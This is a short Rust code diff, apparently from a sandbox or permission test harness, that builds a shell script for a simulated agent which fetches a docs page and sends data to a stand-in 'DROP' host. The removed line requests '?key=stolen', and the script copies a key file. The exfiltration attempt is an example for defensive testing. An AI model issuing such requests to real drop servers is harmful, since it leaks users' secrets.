@@ -220,11 +220,11 @@ fn agent_script(git: bool) -> String {
     } else {
         "echo 'commit: Greet the world'"
     };
-    let fetch = |url: &str| {
+    let fetch = |server: &str, path: &str| {
         if Path::new("/usr/bin/curl").exists() {
-            format!("curl --silent --show-error --max-time 5 {url}")
+            format!("curl --silent --show-error --max-time 5 http://{server}{path}")
         } else {
-            format!("wget -q -T 5 -O - {url}")
+            format!("{ACTOR} strict then fetch {server} {path}")
         }
     };
     format!(
@@ -246,8 +246,8 @@ cp notes.txt copy.txt || echo 'agent: stopped: copy key'
 {TOOL} --now || echo 'agent: stopped: tool'
 echo 'agent: done'
 ",
-        docs = fetch(&format!("http://{DOCS}/guide")),
-        drop = fetch(&format!("http://{DROP}/?key=stolen")),
+        docs = fetch(DOCS, "/guide"),
+        drop = fetch(DROP, "/drop"),
     )
 }
 
